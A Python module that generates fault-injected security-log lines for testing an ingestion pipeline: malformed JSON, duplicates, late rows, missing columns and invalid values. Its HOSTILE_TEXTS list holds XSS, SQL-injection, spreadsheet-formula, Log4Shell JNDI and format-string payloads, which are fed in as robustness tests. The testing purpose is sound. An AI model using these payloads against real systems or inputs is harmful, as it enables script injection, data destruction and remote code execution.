"""Faults of a log: malformed lines, duplicates, late rows, missing columns, hostile texts."""

from __future__ import annotations

import datetime as dt
import json
from collections import Counter
from dataclasses import dataclass
from typing import Any

import numpy as np


@dataclass(frozen=True)
class Fault:
    """A kind of line other than a clean one.

    Attributes
    ----------
    option
        The option that turns it on.
    expect
        What a reader should make of it: a `row`, a `reject`, or a `duplicate` of a row.
    rate
        Share of the rows; of the files for half-written lines.
    added
        Whether its lines are added to the generated rows. Other faults alter or move rows.
    """

    option: str
    expect: str
    rate: float
    added: bool = False


FAULTS = {
    "not_json": Fault("malformed", "reject", 1 / 2000, added=True),
    "binary": Fault("malformed", "reject", 1 / 2000, added=True),
    "hostile_text": Fault("malformed", "row", 1 / 2000, added=True),
    "invalid_address": Fault("malformed", "reject", 1 / 2000, added=True),
    "invalid_port": Fault("malformed", "reject", 1 / 2000, added=True),
    "invalid_time": Fault("malformed", "reject", 1 / 2000, added=True),
    "half_written": Fault("half_written", "reject", 1 / 20, added=True),
    "duplicate_same_item_id": Fault("duplicates", "duplicate", 1 / 300, added=True),
    "duplicate_no_item_id": Fault("duplicates", "duplicate", 1 / 600, added=True),
    "no_item_id": Fault("duplicates", "row", 0.0),  # the first copy of duplicate_no_item_id
    "late_appended": Fault("late", "row", 1 / 300),
    "late_next_day_folder": Fault("late", "row", 1 / 1000),
    "quoted_numbers": Fault("quoted_numbers", "row", 1 / 50),
    "missing_optional_columns": Fault("missing_columns", "row", 1 / 400),
    "missing_needed_column": Fault("missing_columns", "reject", 1 / 1000),
    "portal_date_seconds": Fault("portal_dates", "row", 1 / 800),
    "portal_date_milliseconds": Fault("portal_dates", "row", 1 / 800),
}
FAULT_OPTIONS = (
    *dict.fromkeys(fault.option for fault in FAULTS.values()),
    "overflow_files",
    "missing_day",
)
OVERFLOW_RATE = 1 / 20  # of the folders have PT05M_1.json
SHORT_NAME_RATE = 1 / 20  # of the folders have PT5M.json
# truth.json promises the events of the planted pairs, so only these faults may hit their rows.
KEEP_PLANTED_ROWS = {
    "duplicate_same_item_id",
    "duplicate_no_item_id",
    "late_appended",
    "quoted_numbers",
}
QUOTED_COLUMNS = ("SourcePort", "DestinationPort", "SentBytes", "ReceivedBytes")
OPTIONAL_COLUMNS = (
    "SentBytes",
    "ReceivedBytes",
    "ApplicationProtocol",
    "Computer",
    "SourceIP",
    "DestinationIP",
)
NEEDED_COLUMNS = ("TimeGenerated",)
ADDRESS_COLUMNS = ("SourceIP", "DestinationIP")
INVALID_ADDRESSES = ("999.1.2.3", "10.0.0.256", "10.1.2", "2001:db8:::1", "not-an-ip")
INVALID_PORTS = (99999, -1, 70000, "https")
INVALID_TIMES = ("yesterday", "2026-13-45T99:99:99.0000000Z", "0000-00-00", "")
HOSTILE_COLUMNS = ("Message", "SourceUserName", "SourceHostName", "RequestURL", "DeviceName")
HOSTILE_TEXTS = (
    "<script>alert('row')</script><img src=x onerror=alert(1)>",
    "'; drop table common_security_log; -- \" or 1=1",
    'quote " backslash \\ slash / tab \t newline \n return \r null \x00 escape \x1b[31m red',
    "=cmd|' /C calc'!A0",
    "{{ var('end_date') }} ${jndi:ldap://192.0.2.66/a} %s %n {0}",
    "\u202etxt.exe\u2028\u00e9\u4e2d\U0001f4a3",
    "A" * 100_000,
)


def _dump(row: dict[str, Any]) -> str:
    return json.dumps(row, separators=(",", ":"))


def _portal_date(time_generated: str, milliseconds: bool) -> str:
    """Write a time as a portal export does: `8/17/2023, 6:52:13 AM`."""
    time = dt.datetime.fromisoformat(time_generated[:26])
    fraction = f".{time.microsecond // 1000:03d}" if milliseconds else ""
    return (
        f"{time.month}/{time.day}/{time.year}, {time.hour % 12 or 12}:{time:%M:%S}{fraction} "
        f"{'AM' if time.hour < 12 else 'PM'}"
    )


def _altered(rng: np.random.Generator, kind: str, line: str) -> str | None:
    """Put the fault `kind` into a row; None if the row has nothing to alter."""
    row = json.loads(line)
    if kind == "quoted_numbers":
        quoted = {name: str(row[name]) for name in QUOTED_COLUMNS if name in row}
        return _dump(row | quoted) if quoted else None
    if kind.startswith("portal_date"):
        row["TimeGenerated"] = _portal_date(row["TimeGenerated"], kind.endswith("milliseconds"))
    elif kind == "missing_optional_columns":
        row = {name: value for name, value in row.items() if name not in OPTIONAL_COLUMNS}
    elif kind == "missing_needed_column":
        del row[NEEDED_COLUMNS[rng.integers(len(NEEDED_COLUMNS))]]
    elif kind == "duplicate_no_item_id":
        del row["_ItemId"]
    return _dump(row)


def malformed_line(rng: np.random.Generator, kind: str, line: str) -> bytes:
    """Make a malformed line from a good one.

    Parameters
    ----------
    rng
        Random generator.
    kind
        A kind of FAULTS whose option is `malformed` or `half_written`.
    line
        A generated line.

    Returns
    -------
    bytes
        Without a line end.
    """
    if kind == "binary":
        noise = rng.integers(0, 256, rng.integers(40, 400), dtype=np.uint8).tobytes()
        return b"\x1f\x8b\x08" + noise.replace(b"\n", b"").replace(b"\r", b"")
    row = json.loads(line)
    row["_ItemId"] = "{:08x}-{:04x}-5{:03x}-a{:03x}-{:012x}".format(  # 5: no generated row has it
        *(int(rng.integers(0, top)) for top in (2**32, 2**16, 2**12, 2**12, 2**48))
    )
    if kind == "not_json":
        address = row.get("SourceIP", "10.0.0.1")
        texts = (
            f"CEF:0|Fortinet|Fortigate|v7.2.8|00013|traffic:forward close|3|src={address}",
            "<html><head><title>503 Service Unavailable</title></head></html>",
            f'{{"TimeGenerated":"{row["TimeGenerated"]}","SourceIP":}}',
            f"{row['TimeGenerated']} {address} connection closed",
        )
        return texts[rng.integers(len(texts))].encode()
    if kind == "hostile_text":
        column = HOSTILE_COLUMNS[rng.integers(len(HOSTILE_COLUMNS))]
        row[column] = HOSTILE_TEXTS[rng.integers(len(HOSTILE_TEXTS))]
    elif kind == "invalid_address":
        column = ADDRESS_COLUMNS[rng.integers(len(ADDRESS_COLUMNS))]
        row[column] = INVALID_ADDRESSES[rng.integers(len(INVALID_ADDRESSES))]
    elif kind == "invalid_port":
        row["DestinationPort"] = INVALID_PORTS[rng.integers(len(INVALID_PORTS))]
    elif kind == "invalid_time":
        row["TimeGenerated"] = INVALID_TIMES[rng.integers(len(INVALID_TIMES))]
    elif kind == "half_written":
        text = _dump(row).encode()
        return text[: rng.integers(20, len(text) - 1)]
    return _dump(row).encode()


def damage(
    rng: np.random.Generator,
    lines: list[str],
    planted: np.ndarray,
    options: frozenset[str],
    has_next_day: bool,
    counts: Counter[str],
) -> tuple[list[bytes], list[bytes]]:
    """Put the requested faults into the lines of a folder.

    A row gets one fault at most, so that the counts by kind add up to the number of lines.

    Parameters
    ----------
    rng
        Random generator.
    lines
        The folder's lines, sorted by time.
    planted
        For each line, whether it belongs to a pair that truth.json lists.
    options
        A subset of FAULT_OPTIONS.
    has_next_day
        Whether the next day has logs, so that late rows can arrive with them.
    counts
        Lines by kind; updated in place.

    Returns
    -------
    here : list of bytes
        The lines of this folder.
    next_day : list of bytes
        Lines that arrive in the same folder of the next day.
    """
    kinds = [
        kind
        for kind, fault in FAULTS.items()
        if fault.option in options and fault.option not in ("malformed", "half_written")
        if has_next_day or kind != "late_next_day_folder"
    ]
    edges = np.cumsum([FAULTS[kind].rate for kind in kinds])
    drawn = np.searchsorted(edges, rng.random(len(lines)), side="right")
    kept: list[str | None] = list(lines)
    appended: list[str] = []
    next_day: list[str] = []
    for place in np.flatnonzero(drawn < len(kinds)).tolist():
        kind, line = kinds[drawn[place]], lines[place]
        if planted[place] and kind not in KEEP_PLANTED_ROWS:
            continue
        if kind == "duplicate_same_item_id":
            appended.append(line)
        elif kind.startswith("late"):
            kept[place] = None
            (appended if kind == "late_appended" else next_day).append(line)
        elif altered := _altered(rng, kind, line):
            kept[place] = altered
            if kind == "duplicate_no_item_id":
                appended.append(altered)
                counts["no_item_id"] += 1
        else:
            continue
        counts[kind] += 1

    written = [line.encode() for line in kept if line is not None]
    models = [lines[place] for place in np.flatnonzero(~planted).tolist()]
    for kind, fault in FAULTS.items():
        if fault.option == "malformed" and fault.option in options and models:
            for _ in range(rng.poisson(fault.rate * len(lines))):
                line = malformed_line(rng, kind, models[rng.integers(len(models))])
                written.insert(int(rng.integers(len(written) + 1)), line)
                counts[kind] += 1
    written += [line.encode() for line in appended]
    return written, [line.encode() for line in next_day]
